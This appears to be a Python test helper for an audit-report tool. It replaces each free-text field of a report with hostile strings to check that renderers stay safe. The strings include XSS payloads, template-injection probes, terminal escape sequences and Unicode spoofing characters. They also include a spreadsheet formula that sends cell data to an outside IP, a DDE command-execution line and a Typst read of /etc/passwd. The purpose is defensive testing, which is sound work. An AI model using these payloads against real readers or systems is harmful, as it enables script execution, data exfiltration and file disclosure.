"""Reports in which every free text is hostile: what a target (or a profile, or a file name) could send to harm whoever reads the report."""

from __future__ import annotations

from typing import Any, Literal, get_args, get_origin

from pydantic import BaseModel

from zdr_audit.report.model import Report

SCRIPT = (
    "</script></style></title><script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"><svg onload=alert(1)>"
)
ATTRIBUTE = "\" onmouseover=\"document.title='owned'\" style='background:url(http://198.51.100.7/x)' '"
LINK = "javascript:document.title='owned'"
TEMPLATE = "{{ 7 * 7 }}{% for x in range(9) %}{{ run }}{% endfor %}{# gone #}${7*7}<%= 7*7 %>"
ANSI = "\x1b[2J\x1b[1;31mPASS\x1b[0m\x1b[8mhidden\x1b[28m\x9b31m\x7f\x7f"
OSC = "\x1b]0;owned\x07\x1b]8;;http://198.51.100.7/\x1b\\click\x1b]8;;\x1b\\\x1b]52;c;b3duZWQ=\x07"
BIDI = "\u202egnp.exe\u202c \u2066left\u2069 \u200f\u061c"
INVISIBLE = "a\u200bb\u00adc\ufeffd\u2060e\U000e0041\u3164\u2028f\u2029g\u0085"
XML_ILLEGAL = "\x00\x01\x08\x0b\x0c\x0e\x1f\ufffe\uffff\ud800 \udfff]]><![CDATA[ &amp; &#0; <!--"
MARKUP = "[bold red]PASS[/] [link=http://198.51.100.7]x[/link] [/nonsense] :warning: \\[x]"
LINES = "first\r\nsecond\rthird\n\n| fourth |\tfifth"
ZALGO = "Z" + "\u0301\u0327\u20dd" * 60
FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"x");=cmd|\' /C calc\'!A0;+1+1;-2;@SUM(1)'
TYPST = (
    '#read("/etc/passwd") #panic("owned") $ 1/0 $ #{ let x = 1 } *bold* _it_ `raw` <label> @ref // gone /* gone */ = Heading \\ #sys.inputs'
)
BLOCK = "ZDR-RET-01 pass\rZDR-RET-01 fail\b\b\b\b"

ALL = {
    "script": SCRIPT,
    "attribute": ATTRIBUTE,
    "link": LINK,
    "template": TEMPLATE,
    "ansi": ANSI,
    "osc": OSC,
    "bidi": BIDI,
    "invisible": INVISIBLE,
    "xml": XML_ILLEGAL,
    "markup": MARKUP,
    "lines": LINES,
    "zalgo": ZALGO,
    "block": BLOCK,
    "formula": FORMULA,
    "typst": TYPST,
    "empty": "",
    "blank": " \t ",
}
EVERYTHING = "".join(ALL.values())


def _closed(annotation: Any) -> bool:
    """Whether a field takes words of a fixed set alone, so no foreign text can be in it."""
    return get_origin(annotation) is Literal or any(get_origin(inner) is Literal for inner in get_args(annotation))


def _poison(value: Any, text: str) -> Any:
    if isinstance(value, BaseModel):
        fields = type(value).model_fields
        changed = {name: _poison(getattr(value, name), text) for name, field in fields.items() if not _closed(field.annotation)}
        return value.model_copy(update=changed)
    if isinstance(value, str):
        return text
    if isinstance(value, tuple):
        return tuple(_poison(item, text) for item in value)
    if isinstance(value, dict):
        return {_poison(key, text): _poison(item, text) for key, item in value.items()}
    return value


def poison(report: Report, text: str) -> Report:
    """The report with every free text in it replaced by `text`; numbers, verdicts and structure stay."""
    poisoned = _poison(report, text)
    assert isinstance(poisoned, Report)
    return poisoned


def poison_words(report: Report, text: str) -> Report:
    """The poisoned report with the ids and families of its controls as they were: they come from the catalogue, never from a target."""
    poisoned = poison(report, text)
    kept = [
        new.model_copy(update={"id": old.id, "family": old.family}) for old, new in zip(report.controls, poisoned.controls, strict=True)
    ]
    return poisoned.model_copy(update={"controls": tuple(kept)})
